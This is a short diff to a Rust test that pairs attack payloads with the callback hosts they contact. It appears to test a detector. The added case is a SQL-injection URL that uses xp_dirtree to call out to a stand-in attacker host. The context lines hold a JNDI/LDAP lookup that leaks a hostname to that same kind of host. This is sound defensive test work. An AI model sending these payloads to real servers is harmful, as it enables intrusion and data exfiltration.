@@ -107,6 +107,10 @@ fn what_payloads_call_back_and_include() {
             "shell.badhost.ru",
         ),
         (
+            "/?id=1;exec%20master..xp_dirtree%20'//sql.badhost.ru/a'--",
+            "sql.badhost.ru",
+        ),
+        (
             "/?x=${jndi:ldap://${hostName}.leak.badhost.ru}",
             "leak.badhost.ru",
         ),
